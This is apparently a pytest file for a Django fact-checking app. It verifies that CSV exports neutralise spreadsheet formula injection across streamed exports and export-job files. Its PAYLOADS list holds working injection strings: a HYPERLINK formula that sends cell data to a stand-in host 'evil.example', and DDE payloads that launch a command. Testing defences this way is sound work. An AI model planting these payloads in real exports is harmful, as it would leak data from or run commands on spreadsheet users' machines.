"""CSV exports neutralise formulas (OWASP CSV injection): a cell that begins with = + - @
tab or carriage return gets a leading single quote, through the streamed export, the
export job's file and every text column a reviewer or an import can fill."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from rest_framework.test import APIClient

from factcheck.reports import services
from tests.factories import ArticleFactory, CitationFactory, ClaimFactory

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def exported_rows(editor_client: APIClient) -> list[dict[str, str]]:
    response = editor_client.get("/api/exports/claims.csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_text_column_is_neutralised(editor_client: APIClient, payload: str) -> None:
    article = ArticleFactory(title=payload, outlet=payload, url="")
    claim = ClaimFactory(article=article, statement=payload, claimant=payload, rationale=payload)
    CitationFactory(claim=claim, excerpt="x", stance="supports")
    rows = exported_rows(editor_client)
    assert len(rows) == 1
    row = rows[0]
    for column in ("article_title", "outlet", "claim", "claimant", "rationale"):
        # (The claim column is the statement trimmed: its tab or CR may go first.)
        assert row[column] in ("'" + payload, "'" + payload.strip()), (column, row[column])
    for column, value in row.items():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)


def test_harmless_text_and_numbers_are_unchanged(editor_client: APIClient) -> None:
    claim = ClaimFactory(statement="Prices rose 4% = a lot", rationale="1+1 is two")
    row = exported_rows(editor_client)[0]
    assert row["claim"] == "Prices rose 4% = a lot"
    assert row["rationale"] == "1+1 is two"
    assert row["claim_id"] == str(claim.pk)
    assert row["start"] == str(claim.start)


def test_the_export_job_file_is_neutralised_too(make_user: Any) -> None:
    ClaimFactory(rationale=PAYLOADS[0])
    job = services.run_job(services.create_job(make_user("editor"), "csv", {}).pk)
    assert job.status == "done", job.error
    with job.file.open("rb") as handle:
        row = next(csv.DictReader(io.StringIO(handle.read().decode(), newline="")))
    assert row["rationale"] == "'" + PAYLOADS[0]
